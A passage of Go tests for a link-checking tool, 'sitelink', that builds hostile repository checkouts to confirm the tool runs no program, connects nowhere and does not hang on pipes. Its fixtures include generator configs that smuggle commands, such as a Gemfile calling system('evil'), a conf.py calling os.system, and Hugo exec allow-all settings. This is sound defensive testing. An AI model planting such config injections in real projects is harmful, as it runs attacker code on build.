	for line, want := range map[string]int{
		"ledger show": 0, "ledger verify": 0, "ledger export": 0,
		"notify site --dry-run --base-url https://me.example/": 0, "notify site --send --base-url https://me.example/": exitUsage, "ledger compact": exitUsage,
	} {
		if code, out := h.sitelink(nil, line); code != want || want == 0 && strings.Contains(out, "no deploy is known") {
			t.Errorf("sitelink %s: exit code %d, want %d\n%s", line, code, want, out)
		}
		if text, err := os.ReadFile(h.ran); err == nil {
			t.Fatalf("sitelink %s ran a program: %s", line, text)
		}
		if h.outside() != before {
			t.Fatalf("sitelink %s changed files outside of the checkout", line)
		}
	}
	if code, out := h.sitelink(nil, "ledger export"); code != 0 || !strings.Contains(out, "https://x.example/") {
		t.Errorf("exit code %d\n%s", code, out)
	}
}

// TestHostileWatch starts watch and serve in checkouts that attack what they do at
// their start: finding the project, its baseline, its configuration and its store.
func TestHostileWatch(t *testing.T) {
	testkit.Long(t)
	for _, attack := range attacks {
		for _, run := range []struct{ line, ready, attacks string }{
			{"watch site --baseline-ref HEAD", watchEnds, "fsmonitor,promisor,committed bare repository,.sitelink,output,docroot,public,hugo,variables"},
			{"serve site --listen 127.0.0.1:0 --base-url https://me.example/", "sitelink: note: receiving", "fsmonitor,.sitelink,docroot,rules,mail server,pipe as rules,pipe as record,links beside the store,hugo,variables"},
		} {
			if !slices.Contains(strings.Split(run.attacks, ","), attack.name) {
				continue
			}
			t.Run(strings.Fields(run.line)[0]+"/"+attack.name, func(t *testing.T) {
				t.Parallel()
				h := newHostile(t)
				attack.make(h)
				before := h.outside()
				cmd := exec.Command("sitelink", strings.Fields(run.line)...)
				cmd.Dir, cmd.Env = h.repo, h.env
				var out bytes.Buffer
				printed, end, err := os.Pipe()
				testkit.Check(t, err)
				cmd.Stdout, cmd.Stderr = end, end
				testkit.Check(t, errors.Join(cmd.Start(), end.Close()))
				stop := time.AfterFunc(time.Minute, func() { cmd.Process.Kill() })
				defer stop.Stop()
				for lines := bufio.NewScanner(printed); lines.Scan(); {
					fmt.Fprintln(&out, lines.Text())
					if strings.HasPrefix(lines.Text(), run.ready) {
						cmd.Process.Signal(os.Interrupt)
					}
				}
				_ = cmd.Wait() // its exit code depends on the attack
				if text, err := os.ReadFile(h.ran); err == nil {
					t.Errorf("it ran a program: %s\n%s", text, out.String())
				}
				if h.outside() != before || h.connected.Load() > 0 {
					t.Errorf("it reached outside of the checkout\n%s", out.String())
				}
			})
		}
	}
}

// TestGitWaits: a pipe that git would read ends a command at once, with the name of the file.
func TestGitWaits(t *testing.T) {
	for _, attack := range attacks {
		name, ok := map[string]string{"pipe as HEAD": "HEAD", "pipe as git's configuration": "config", "pipe as git's index": "index", "pipe in git's configuration": "pipe"}[attack.name]
		if !ok {
			continue
		}
		t.Run(attack.name, func(t *testing.T) {
			t.Parallel()
			h := newHostile(t)
			attack.make(h)
			for _, line := range []string{"doctor", "hook status", "init --hook --yes", "check site --baseline-ref HEAD", "check site"} {
				began := time.Now()
				want, says := exitFailed, name+" is not a regular file"
				if line == "check site" { // which needs no git
					want, says = exitFindings, ""
				}
				if code, out := h.sitelink(nil, line); code != want || !strings.Contains(out, says) {
					t.Errorf("sitelink %s: exit code %d\n%s", line, code, out)
				}
				if took := time.Since(began); took > 4*time.Second {
					t.Errorf("sitelink %s took %v", line, took)
				}
			}
		})
	}
}

// probed are names of files that sitelink reads in a checkout, and after a space the text of
// sitelink.toml or of another file without which it would not.
var probed = strings.Split(`sitelink.toml
.sitelink.toml
.config/sitelink.toml
hugo.toml
hugo.yaml
hugo.json
config.toml
config.yaml
config/_default/hugo.toml
config/_default/module.toml
config/production/params.toml
go.mod
go.sum
go.work
_vendor/modules.txt
themes/x/theme.toml
themes/x/hugo.toml
_config.yml
_config.toml
Gemfile
.eleventy.js
eleventy.config.js
zola.toml
mkdocs.yml
mkdocs.yaml
astro.config.mjs
docusaurus.config.js
.docusaurus/a.json
docs/.vitepress/config.mts
docs/.vuepress/config.js
conf.py
docs/conf.py
pelicanconf.py
publishconf.py
book.toml
_quarto.yml
antora-playbook.yml
_config.ts
deno.json
next.config.js
gatsby-config.js
nuxt.config.ts
svelte.config.js
package.json
package-lock.json
npm-shrinkwrap.json
yarn.lock
pnpm-lock.yaml
bun.lock
pyproject.toml
requirements.txt
docs/requirements.txt
uv.lock
poetry.lock
Pipfile
Makefile
Cargo.toml
composer.json
vercel.json
.vercel/project.json
firebase.json
staticwebapp.config.json
wrangler.toml
wrangler.json
nginx.conf
Caddyfile
CODEOWNERS
.github/CODEOWNERS
docs/CODEOWNERS
.gitlab/CODEOWNERS
.github/workflows/a.yml
.gitlab-ci.yml
.gitlab/sitelink.yml
.circleci/config.yml
.travis.yml
azure-pipelines.yml
bitbucket-pipelines.yml
.woodpecker.yml
.build.yml
render.yaml
lefthook.yml
.lefthook.toml
.pre-commit-config.yaml
.overcommit.yml
.husky/pre-push
.githooks/pre-push
.gitignore
.gitattributes
.gitmodules
.env
.ruby-version
.tool-versions
.nvmrc
.hugo_build.lock
CNAME
static/CNAME
static/_redirects
layouts/index.html
layouts/partials/head.html
content/_index.md
content/a.md
content/p/index.md
data/x.toml
i18n/en.toml
archetypes/default.md
assets/a.css
site/index.html
site/.htaccess
site/_redirects
site/_headers
site/_routes.json
site/_worker.js
site/CNAME
site/robots.txt
site/sitemap.xml
site/feed.xml
site/manifest.json
site/s.css
site/404.html
site/.well-known/security.txt
.sitelink/ledger.jsonl
.sitelink/ledger.journal
.sitelink/ledger.lock
.sitelink/addresses.jsonl
.sitelink/mentions.db
.sitelink/mentions.db-wal
.sitelink/status.jsonl
.sitelink/cache/entries
.sitelink/.gitignore
.sitelink/init.json
.sitelink/edit.journal
.git/sitelink/state/init.json
.git/sitelink/state/edit.journal
.git/info/exclude
.git/info/attributes
.git/packed-refs
.git/shallow
.git/commondir
.git/objects/info/alternates
.git/hooks/pre-push
.git/FETCH_HEAD
.git/COMMIT_EDITMSG
report.txt [check] output = "report.txt"
report.json [check] format = ["text", "json=report.json"]
access.log [check] log = "access.log"
accepted.jsonl [check] baseline = "accepted.jsonl"
notices.jsonl [outgoing] ledger = "notices.jsonl"
rules.toml [incoming] rules = "rules.toml"
mentions.db [incoming] store = "mentions.db"
sitelink-baseline.jsonl
netlify.toml
.git/index
.git/HEAD`, "\n")

// TestPipes: no command waits for a pipe in place of a file that it reads or writes. The first
// three commands, which read most, meet each file. The others meet every third, all files of
// .sitelink and git, and those that the configuration names.
func TestPipes(t *testing.T) {
	commands := strings.Split("check,doctor,init --dry-run,hook status,baseline write --force", ",")
	often := len(commands)
	if testkit.Longer(false, true) {
		often = 3
		commands = append(commands, strings.Split("check site --group-by owner,links site,baseline write site,inject --check,notify site --dry-run --base-url https://me.example/,"+
			"ledger show,mentions list,mentions export,external quiet,init --undo,fix --undo", ",")...)
	}
	for p, probe := range testkit.Longer(probed[len(probed)-4:], probed) {
		name, configuration, _ := strings.Cut(probe, " ")
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newHostile(t)
			os.Remove(filepath.Join(h.repo, filepath.FromSlash(name)))
			h.write("repo/sitelink.toml", "docroot = 'site'\n"+strings.Replace(configuration, "] ", "]\n", 1)+"\n")
			if strings.HasSuffix(name, "sitelink.toml") {
				os.Remove(filepath.Join(h.repo, name))
			}
			h.pipe(name)
			for i, line := range commands {
				if i >= often && (p+i)%3 > 0 && !strings.HasPrefix(name, ".sitelink/") && !strings.HasPrefix(name, ".git/") && configuration == "" {
					continue
				}
				ctx, cancel := context.WithTimeout(t.Context(), 4*time.Second)
				cmd := exec.CommandContext(ctx, "sitelink", strings.Fields(line)...)
				cmd.Dir, cmd.Env = h.repo, h.env
				out, _ := cmd.CombinedOutput()
				if ctx.Err() != nil {
					t.Errorf("sitelink %s waits: %s", line, out)
				}
				cancel()
			}
		})
	}
}

// recognised are files that make a project one of a generator, with what they may name.
var recognised = map[string]testkit.Files{
	"hugo": {"hugo.toml": "baseURL = 'https://me.example/'\n[security.exec]\nallow = ['.*']\n[languages.en.security.exec]\nallow = ['.*']\n[[module.mounts]]\nsource = 'notes.txt'\ntarget = 'content/x/_content.gotmpl'\n",
		"notes.txt": "{{ css.PostCSS }}", "go.mod": "module x\n"},
	"jekyll": {"_config.yml": "title: x\nplugins: [evil]\n", "Gemfile": "system('evil')\n"}, "eleventy": {"eleventy.config.js": "require('child_process')"},
	"zola": {"zola.toml": "base_url = 'https://me.example/'\n"}, "mkdocs": {"mkdocs.yml": "site_name: x\nhooks: [evil.py]\n", "docs/a.md": ""}, "astro": {"astro.config.mjs": ""},
	"docusaurus": {"docusaurus.config.js": ""}, "vitepress": {"docs/.vitepress/config.mts": ""}, "vuepress": {"docs/.vuepress/config.js": ""},
	"sphinx": {"conf.py": "import os; os.system('evil')\n", "index.rst": ""}, "pelican": {"pelicanconf.py": ""}, "mdbook": {"book.toml": "[preprocessor.evil]\ncommand = 'evil'\n"},
	"quarto": {"_quarto.yml": "project: {type: website, pre-render: evil}\n"}, "antora": {"antora-playbook.yml": "site: {url: https://me.example/}\n"}, "lume": {"_config.ts": "", "deno.json": `{"tasks": {"build": "evil"}}`},
	"hexo": {"_config.yml": "title: x\n", "package.json": `{"dependencies": {"hexo": "8"}, "scripts": {"build": "evil"}}`}, "next": {"next.config.js": "", "package.json": `{"dependencies": {"next": "15"}}`},
	"gatsby": {"gatsby-config.js": ""}, "nuxt": {"nuxt.config.ts": ""}, "sveltekit": {"svelte.config.js": "", "package.json": `{"devDependencies": {"@sveltejs/kit": "2"}}`},
}

// recognise makes the checkout a project with these files, in which each program that a generator
// could need leaves a mark.
func (h *hostile) recognise(files testkit.Files) {
	programs := strings.Fields("evil node npx npm yarn pnpm bun deno ruby bundle gem rake python python3 pip uv poetry pipenv go make sh bash quarto antora lume svelte-kit vite sphinx-build hexo next nuxt gatsby astro postcss")
	for _, name := range append(programs, slices.Collect(maps.Keys(recognised))...) {
		h.write("bin/"+name, "#!/bin/sh\necho \"$(basename \"$0\") $*\" >>'"+h.ran+"'\nexit 1\n")
		h.write("repo/node_modules/.bin/"+name, "#!/bin/sh\necho \"node_modules/$0 $*\" >>'"+h.ran+"'\nexit 1\n")
	}
	// git itself needs no program of these for what sitelink asks.
	h.env = append(h.env, "PATH="+filepath.Join(h.base, "bin")+string(os.PathListSeparator)+os.Getenv("PATH"))
	for name, text := range files {
		h.write("repo/"+name, text)
	}
}

// TestReadingStartsNothing: in a checkout of each generator, where each program that one could need
// leaves a mark, the commands that find out most about it start none of them. TestReadingTraced does this with all
// that read.
func TestReadingStartsNothing(t *testing.T) {
	if len(recognised) < 20 {
		t.Fatalf("%d generators", len(recognised))
	}
	for generator, files := range recognised {
		t.Run(generator, func(t *testing.T) {
			t.Parallel()
			h := newHostile(t)
			h.recognise(files)
			for _, line := range []string{"check site", "init --dry-run"} {
				code, out := h.sitelink(nil, line)
				if code < 0 || code > exitNotices {
					t.Errorf("sitelink %s: exit code %d\n%s", line, code, out)
				}
				ran, _ := os.ReadFile(h.ran)
				for call := range strings.Lines(string(ran)) {
					t.Errorf("sitelink %s started %s", line, call)
				}
				os.Remove(h.ran)
			}
			if h.connected.Load() > 0 {
				t.Error("it connected")
			}
		})
	}
}
